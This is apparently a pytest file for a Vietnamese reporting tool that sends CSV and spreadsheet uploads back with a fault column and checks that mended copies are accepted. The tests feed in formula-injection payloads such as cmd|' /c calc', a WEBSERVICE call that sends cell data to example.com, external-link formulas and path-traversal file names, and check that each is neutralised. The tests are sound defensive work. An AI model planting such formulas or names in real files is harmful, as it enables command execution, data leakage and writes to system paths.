"""A person's file comes back with its faults, and is accepted again once it is mended."""

import csv
import io
import zipfile
from collections.abc import Callable
from typing import IO, Protocol

import odf.opendocument
import odf.table
import odf.text
import openpyxl
import pytest
import xlwt
from hypothesis import given
from hypothesis import strategies as st
from openpyxl.worksheet.worksheet import Worksheet

from campaign import intake
from campaign.export.marked import Fault, faults_of, marked_copy
from campaign.intake import Context, Reading
from campaign.words import words_for
from tests.intake.files import reference


class Saveable(Protocol):
    """A workbook of any library."""

    def save(self, stream: IO[bytes], /) -> None: ...


WORDS = words_for("vi")
HEADER = "Mã đơn vị;Xã, phường, đặc khu;Ngày số liệu;BHXH tự nguyện – Số người tham gia;Ghi chú"
GOOD = "31471;Phường Long Mỹ;30/09/2025;1215;"
BAD = "31340;Phường Ngã Bảy;30/09/2025;mười;"


def _read(payload: bytes) -> Reading:
    return intake.read("x", payload, reference=reference(), context=Context(province="92"))


def _marked(payload: bytes, name: str = "thang9.csv") -> tuple[str, bytes]:
    reading = _read(payload)
    copy = marked_copy(
        name,
        payload,
        faults_of(WORDS, reading.findings),
        words=WORDS,
        reference=reference(),
        answers=reading.answers,
    )
    assert copy is not None
    return copy


def _cells(payload: bytes, delimiter: str = ";") -> list[list[str]]:
    return list(csv.reader(io.StringIO(payload.decode("utf-8-sig")), delimiter=delimiter))


def _written(rows: list[list[str]], delimiter: str = ";") -> bytes:
    out = io.StringIO()
    csv.writer(out, delimiter=delimiter).writerows(rows)
    return out.getvalue().encode()


def test_text_stays_text_with_a_column_more() -> None:
    name, copy = _marked("\n".join([HEADER, GOOD, BAD, ""]).encode())
    assert name == "thang9.loi.csv"
    assert copy.startswith(b"\xef\xbb\xbf")
    header, good, bad = _cells(copy)
    assert header == [*HEADER.split(";"), "Lỗi"]
    assert good == [*GOOD.split(";"), ""]
    assert bad[:-1] == BAD.split(";")
    assert "mười" in bad[-1]
    assert "dòng 3" in bad[-1]


@pytest.mark.parametrize("mended", ["canonical", "standard"])
def test_once_mended_the_copy_is_accepted_without_a_question(mended: str) -> None:
    if mended == "canonical":
        header = "unit_code;indicator_code;as_of_date;participant_count"
        rows = ["31471;vsi;2025-09-30;1215", "31340;vsi;2025-09-30;mười"]
    else:
        header, rows = HEADER, [GOOD, BAD]
    _, copy = _marked("\n".join([header, *rows, ""]).encode())
    cells = _cells(copy)
    cells[2][3] = "10"
    reading = _read(_written(cells))
    assert reading.findings == ()
    assert reading.table is not None
    assert reading.table.column("participant_count").to_pylist() == [1215, 10]


def test_a_copy_of_a_copy_has_one_column_of_faults() -> None:
    _, once = _marked("\n".join([HEADER, GOOD, BAD, ""]).encode())
    _, twice = _marked(once, "thang9.loi.csv")
    assert twice == once


def test_title_lines_and_line_breaks_keep_their_lines() -> None:
    titles = "BÁO CÁO THÁNG;;;;\n\n"
    noted = GOOD.removesuffix(";") + ';"hai\ndòng"'
    payload = (titles + "\n".join([HEADER, noted, "", BAD, ""])).encode()
    reading = _read(payload)
    _, copy = _marked(payload)
    assert _cells(copy)[0] == ["BÁO CÁO THÁNG", "", "", "", ""]
    assert ["31471", "Phường Long Mỹ", "30/09/2025", "1215", "hai\ndòng", ""] in _cells(copy)
    lines = {finding.line for finding in reading.findings}
    assert lines == {finding.line for finding in _read(copy).findings} == {7}


@pytest.mark.parametrize("delimiter", [",", "\t", "|"])
def test_the_delimiter_stays(delimiter: str) -> None:
    header = ["unit_code", "indicator_code", "as_of_date", "participant_count"]
    rows = [header, ["31471", "vsi", "2025-09-30", "x1"]]
    _, copy = _marked(_written(rows, delimiter))
    assert _cells(copy, delimiter)[0] == [*header, "Lỗi"]


def test_a_stated_delimiter_stays_stated() -> None:
    _, copy = _marked(("sep=;\n" + "\n".join([HEADER, GOOD, BAD, ""])).encode())
    assert copy.decode("utf-8-sig").startswith("sep=;\n")
    assert _read(copy).findings[0].line == 4


def test_old_letters_are_converted() -> None:
    payload = "\n".join([HEADER, GOOD, BAD, ""]).encode("utf-16")
    _, copy = _marked(payload)
    assert _cells(copy)[1][1] == "Phường Long Mỹ"


@pytest.mark.parametrize("formula", ["=1+1", "@SUM(A1)", "+cmd|' /c calc'!A0"])
def test_formulas_in_text_are_neutral(formula: str) -> None:
    payload = "\n".join([HEADER, GOOD + formula, BAD, ""]).encode()
    _, copy = _marked(payload)
    assert _cells(copy)[1][4] == "'" + formula


@pytest.mark.parametrize("cell", ["-", "–", "-5", "1.215", "+7"])
def test_numbers_and_dashes_stay_as_they_are(cell: str) -> None:
    row = f"31471;Phường Long Mỹ;30/09/2025;{cell};"
    _, copy = _marked("\n".join([HEADER, row, BAD, ""]).encode())
    assert _cells(copy)[1][3] == cell


def test_a_line_with_too_many_cells_is_refused_again_until_it_is_mended() -> None:
    header = "unit_code,indicator_code,as_of_date,participant_count"
    payload = f"{header}\n31471,vsi,2025-09-30,1,215\n".encode()
    _, copy = _marked(payload)
    assert [f.code for f in _read(copy).findings] == ["row_length"]


def test_faults_of_the_whole_file_stand_beside_the_first_line() -> None:
    payload = "\n".join([HEADER, GOOD, BAD, ""]).encode()
    faults = [Fault("Cả tệp: đến ngày 1/1/2020"), Fault("Đầu bảng", 1)]
    copy = marked_copy("a.csv", payload, faults, words=WORDS, reference=reference(), answers={})
    assert copy is not None
    assert _cells(copy[1])[1][-1] == "Cả tệp: đến ngày 1/1/2020 · Đầu bảng"
    # A day in them is not taken for the day of the figures.
    assert [f.code for f in _read(copy[1]).findings] == [f.code for f in _read(payload).findings]


@pytest.mark.parametrize(
    "payload",
    [
        b"",
        b"\x89PNG",
        b"PK\x03\x04broken",
        b"no table at all\n",
        "Họ và tên;Xã, phường\nNguyễn Văn A;Long Mỹ\n".encode(),
        "Xã, phường;Số người tham gia;Số điện thoại\nLong Mỹ;5;0912345678\n".encode(),
        b'unit_code,indicator_code\n"31471,vsi\n',
        HEADER.encode(),
    ],
)
def test_of_a_refused_file_there_is_no_copy(payload: bytes) -> None:
    faults = [Fault("x", 2)]
    assert (
        marked_copy("a.csv", payload, faults, words=WORDS, reference=reference(), answers={})
        is None
    )


@given(st.binary(max_size=400))
def test_no_bytes_make_it_fail(payload: bytes) -> None:
    marked_copy("a", payload, [Fault("x", 1)], words=WORDS, reference=reference(), answers={})


# --- workbooks


def _book(change: Callable[[Worksheet], None] = lambda _page: None) -> bytes:
    book = openpyxl.Workbook()
    page = book.active
    page.title = "T9"
    page.append(["BÁO CÁO"])
    page.append(["Xã, phường", "Ngày số liệu", "BHXH tự nguyện", None])
    page.append([None, None, "Chỉ tiêu giao", "Số người tham gia"])
    for area in ("A2:A3", "B2:B3", "C2:D2"):
        page.merge_cells(area)
    page.append(["Phường Long Mỹ", "30/09/2025", 100, 90])
    page.append(["Phường Ngã Bảy", "30/09/2025", 200, "mười"])
    page.append(["Tổng cộng", None, "=SUM(C4:C5)", None])
    page["C4"].number_format = "#,##0"
    change(page)
    return _saved(book)


def _saved(book: Saveable) -> bytes:
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()


def _open(payload: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(payload))


def test_a_workbook_stays_one_with_formats_and_formulas() -> None:
    name, copy = _marked(_book(), "thang9.xlsx")
    assert name == "thang9.loi.xlsx"
    page = _open(copy)["T9"]
    assert page["E2"].value == "Lỗi"
    assert "mười" in page["E5"].value
    assert page["E5"].alignment.wrap_text
    assert page["E5"].fill.fgColor.rgb.endswith("FFF2CC")
    assert page["E4"].value is None
    assert page["C4"].number_format == "#,##0"
    assert page["C6"].value == "=SUM(C4:C5)"
    assert {str(area) for area in page.merged_cells.ranges} == {"A2:A3", "B2:B3", "C2:D2"}


def test_faults_of_the_whole_workbook_stand_in_a_sheet_of_their_own() -> None:
    _, copy = _marked(_book(), "thang9.xlsx")
    book = _open(copy)
    assert book.sheetnames == ["Lỗi chung", "T9"]
    told = [row[0] for row in book["Lỗi chung"].iter_rows(values_only=True)]
    general = [f for f in faults_of(WORDS, _read(_book()).findings) if f.line is None or f.line < 4]
    assert general
    assert told[1:] == [fault.text for fault in general]


def test_a_mended_workbook_asks_no_more_than_before() -> None:
    _, copy = _marked(_book(), "thang9.xlsx")
    book = _open(copy)
    book["T9"]["D5"] = 10
    own = _open(_book())
    own["T9"]["D5"] = 10
    before, after = _read(_saved(own)), _read(_saved(book))
    assert [f.code for f in after.findings] == [f.code for f in before.findings]
    assert after.is_acceptable
    assert {k: t.to_pylist() for k, t in after.tables.items()} == {
        k: t.to_pylist() for k, t in before.tables.items()
    }


def test_an_earlier_copys_words_go_when_the_line_is_mended() -> None:
    _, once = _marked(_book(), "thang9.xlsx")
    book = _open(once)
    book["T9"]["D5"] = 10
    book["T9"]["D4"] = "chín"
    _, twice = _marked(_saved(book), "thang9.loi.xlsx")
    page = _open(twice)["T9"]
    assert "chín" in page["E4"].value
    assert page["E5"].value is None
    assert page.max_column == 5
    assert _open(twice).sheetnames.count("Lỗi chung") == 1


@pytest.mark.parametrize(
    "formula",
    [
        "=cmd|'/c calc'!A0",
        "='[other.xlsx]Sheet 1'!A1",
        "=[1]Sheet1!A1",
        '=WEBSERVICE("http://example.com/"&A1)',
        '=HYPERLINK("http://example.com","x")',
        "='https://example.com/[b.xlsx]S'!A1",
        '=IMPORTDATA("http://example.com")',
    ],
)
def test_a_formula_that_reaches_outside_becomes_text(formula: str) -> None:
    def change(page: Worksheet) -> None:
        page["F9"] = formula

    _, copy = _marked(_book(change), "a.xlsx")
    cell = _open(copy)["T9"]["F9"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (formula, "s", True)


@pytest.mark.parametrize(
    "formula", ["=SUM(C4:C5)", '=A4&"|"&B4', "=Bang1[Cột]", '=IF(A1="[x]",1,2)']
)
def test_a_formula_of_the_workbook_itself_stays(formula: str) -> None:
    def change(page: Worksheet) -> None:
        page["F9"] = formula

    _, copy = _marked(_book(change), "a.xlsx")
    assert _open(copy)["T9"]["F9"].data_type == "f"


def test_links_and_names_that_reach_outside_are_dropped() -> None:
    def change(page: Worksheet) -> None:
        page["A4"].hyperlink = "http://example.com/"
        names = page.parent.defined_names
        names["ra"] = openpyxl.workbook.defined_name.DefinedName("ra", attr_text="cmd|'/c x'!A1")
        names["nha"] = openpyxl.workbook.defined_name.DefinedName("nha", attr_text="T9!$A$1")

    _, copy = _marked(_book(change), "a.xlsx")
    book = _open(copy)
    assert b"example.com" not in copy
    assert book["T9"]["A4"].hyperlink is None
    assert list(book.defined_names) == ["nha"]


def test_an_old_workbook_comes_back_as_values_and_says_so() -> None:
    book = xlwt.Workbook()
    page = book.add_sheet("T9")
    head = [
        "Mã đơn vị",
        "Xã, phường, đặc khu",
        "Ngày số liệu",
        "BHXH tự nguyện - Số người tham gia",
    ]
    for index, text in enumerate(head):
        page.write(0, index, text)
    for row, values in enumerate(
        [("31471", "Phường Long Mỹ", "30/09/2025", 90), ("31340", "", "30/09/2025", "=x")], start=1
    ):
        for index, value in enumerate(values):
            page.write(row, index, value)
    name, copy = _marked(_saved(book), "cu.xls")
    assert name == "cu.loi.xlsx"
    made = _open(copy)
    assert made["Lỗi chung"]["A2"].value == WORDS.say("marked.values_only")
    assert made["T9"]["D2"].value == 90
    assert made["T9"]["D3"].data_type == "s"
    assert made["T9"]["E3"].value
    made["T9"]["D3"] = 7
    reading = _read(_saved(made))
    assert reading.findings == ()
    assert reading.row_count == 2


def test_an_open_document_comes_back_as_values() -> None:
    book = odf.opendocument.OpenDocumentSpreadsheet()
    table = odf.table.Table(name="Tháng/9: số liệu của các xã, phường, đặc khu")
    for texts in (
        ["Xã, phường", "Ngày số liệu", "BHYT - Số người tham gia"],
        ["Phường Long Mỹ", "30/09/2025", "x1"],
    ):
        row = odf.table.TableRow()
        for text in texts:
            cell = odf.table.TableCell(valuetype="string")
            cell.addElement(odf.text.P(text=text))
            row.addElement(cell)
        table.addElement(row)
    book.spreadsheet.addElement(table)
    _, copy = _marked(_saved(book), "a.ods")
    made = _open(copy)
    assert len(made.sheetnames[1]) <= 31
    assert "x1" in made.worksheets[1]["D2"].value


def test_macros_and_outside_links_get_no_copy() -> None:
    stream = io.BytesIO(_book())
    with zipfile.ZipFile(stream, "a") as package:
        package.writestr("xl/vbaProject.bin", b"x")
    assert (
        marked_copy("a.xlsm", stream.getvalue(), [], words=WORDS, reference=reference(), answers={})
        is None
    )


def test_control_characters_in_a_fault_do_no_harm() -> None:
    faults = [Fault("x\x07y", 5, "T9"), Fault("=1+1", 4, "T9"), Fault("z\x00", None, None)]
    copy = marked_copy("a.xlsx", _book(), faults, words=WORDS, reference=reference(), answers={})
    assert copy is not None
    page = _open(copy[1])["T9"]
    assert page["E5"].value == "x\ufffdy"
    assert (page["E4"].data_type, page["E4"].quotePrefix) == ("s", True)


@pytest.mark.parametrize(
    ("name", "given"),
    [
        ("../../etc/cron.d/x.csv", "x.loi.csv"),
        ("..\\..\\x.csv", "x.loi.csv"),
        ("a\u202egpj.csv", "agpj.loi.csv"),
        ("\n.csv", "csv.loi.csv"),
        ("..", "tep.loi.csv"),
    ],
)
def test_the_copys_name_is_no_path(name: str, given: str) -> None:
    copied, _ = _marked(f"{HEADER}\n{BAD}\n".encode(), name)
    assert copied == given
